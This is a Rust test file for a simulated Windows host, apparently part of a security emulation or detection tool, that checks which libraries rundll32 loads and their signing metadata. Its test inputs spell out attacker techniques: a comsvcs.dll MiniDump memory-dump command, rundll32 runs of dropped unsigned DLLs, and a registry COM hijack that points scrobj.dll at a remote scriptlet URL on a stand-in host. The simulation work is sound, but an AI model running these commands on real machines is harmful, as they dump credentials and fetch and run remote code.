//! Libraries that programs load.

use std::sync::Arc;

use misfire::activity::{ActivityKind, ProgramFile};
use misfire::stage::simulate::world::Content;

use super::Host;

/// The libraries that were loaded, with what is in them.
fn loaded(host: &Host) -> Vec<(String, Arc<ProgramFile>)> {
    let activities = host.world.activities().iter();
    activities
        .filter_map(|traced| match &traced.activity.kind {
            ActivityKind::ImageLoaded { path, program } => {
                Some((path.clone(), Arc::clone(program)))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn libraries_of_windows_are_signed_and_say_what_they_are() {
    let mut host = Host::new();
    host.run(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 700 C:\x.dmp full");
    host.run(r"rundll32.exe C:\Windows\SysWOW64\lesserknown.dll,Run");
    let loaded = loaded(&host);
    let (_, known) = &loaded[0];
    assert_eq!(known.signer.as_deref(), Some("Microsoft Windows"));
    let metadata = known.metadata.as_ref().expect("a version resource");
    assert_eq!(metadata.description.as_deref(), Some("COM+ Services"));
    assert_eq!(metadata.original_file_name.as_deref(), Some("COMSVCS.DLL"));
    assert_eq!(metadata.company.as_deref(), Some("Microsoft Corporation"));
    let (_, other) = &loaded[1];
    assert_eq!(other.signer.as_deref(), Some("Microsoft Windows"));
}

#[test]
fn a_library_that_was_written_there_is_nobodys() {
    let mut host = Host::new();
    let shell = Arc::clone(&host.shell.process);
    let path = r"C:\Windows\System32\dropped.dll";
    host.world.write_file(&shell, path, Content::Unknown);
    host.run(&format!("rundll32.exe {path},Run"));
    host.run(r"rundll32.exe C:\Users\avery\own.dll,Run");
    for (path, program) in loaded(&host) {
        assert_eq!(program.signer, None, "{path}");
        assert_eq!(program.metadata, None, "{path}");
    }
    // That Windows would have it does not mean that it has it.
    assert!(
        host.changes()[0].contains("Created"),
        "{:?}",
        host.changes()
    );
}

#[test]
fn a_class_is_no_library() {
    let class = "{00000001-0000-0000-0000-0000FEEDACDC}";
    for option in ["-sta", "-localserver", "/sta"] {
        let mut host = Host::new();
        host.run(&format!("rundll32.exe {option} {class}"));
        assert!(loaded(&host).is_empty(), "{option}");
    }
    let mut host = Host::new();
    host.run(&format!(
        r"reg add HKCU\Software\Classes\CLSID\{class}\InprocServer32 /ve /d C:\Windows\System32\scrobj.dll /f"
    ));
    host.run(&format!(
        r"reg add HKCU\Software\Classes\CLSID\{class}\ScriptletURL /ve /d https://scripts.example/a.sct /f"
    ));
    host.run(&format!("rundll32.exe -sta {class}"));
    assert_eq!(loaded(&host)[0].0, r"C:\Windows\System32\scrobj.dll");
    let changes = host.changes().join("\n");
    assert!(changes.contains("rundll32.exe: connect 443"), "{changes}");
}
